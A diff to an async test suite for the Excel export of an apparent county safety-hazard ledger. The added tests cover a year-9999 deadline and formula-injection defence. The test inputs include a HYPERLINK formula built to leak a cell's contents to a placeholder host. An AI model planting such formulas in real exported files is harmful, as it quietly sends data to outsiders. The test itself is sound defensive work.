@@ -6,7 +6,7 @@ one signed off, and public reports still unverified or found untrue (kept, never
 
 from __future__ import annotations
 
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 from io import BytesIO
 
 import httpx
@@ -206,6 +206,33 @@ async def test_the_export_shows_a_failed_recheck_and_the_entry_back_in_rectifica
     assert (exit_[12], exit_[14]) == ("整改中", None)  # no longer signed off
     assert exit_[15].startswith("不通过，重新整改（")
     assert exit_[11].endswith("回头看不通过，重新整改：安全出口再次上锁（县民政局 张科长）")
+
+
+async def test_the_ledger_export_of_an_entry_due_in_9999_answers_200(api, county):
+    await county.set_deadline(county.ids["kitchen"], datetime(9999, 12, 31, 23, tzinfo=UTC))
+    rows = [[c.value for c in row] for row in (await export(api)).active.iter_rows(min_row=4)]
+    kitchen = rows[1]
+    assert kitchen[3] == "厨房燃气软管老化"
+    # no China time exists for it: the calendar's last second, the last Excel can show
+    assert (kitchen[10], kitchen[13]) == (datetime(9999, 12, 31, 23, 59, 59), "否")
+    assert (await stats(api, by="township"))["totals"]["overdue"] == 2  # wiring and iot
+
+
+#: what a member of the public or duty staff may type, each of which Excel would run
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")', "+1+2", "-2+3",
+            "@SUM(1,2)", " \t=1+1", "\r=1+1"]
+
+
+async def test_a_description_beginning_with_a_formula_sign_is_text_in_the_workbook(api, county):
+    for text in FORMULAS:
+        await county.file(utc_now() + DAY, source=Source.PUBLIC_REPORT, description=text)
+    sheet = (await export(api)).active
+    cells = [row[3] for row in sheet.iter_rows(min_row=4)][-len(FORMULAS):]
+    # shown as typed (an XML reader reads a CR as a line feed)
+    assert [c.value for c in cells] == [text.replace("\r", "\n") for text in FORMULAS]
+    for cell in cells:
+        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.value
+    assert sheet["D4"].quotePrefix is False  # "配电房私拉乱接电线": plain text, left alone
 
 
 async def test_the_reports_need_a_login(console):
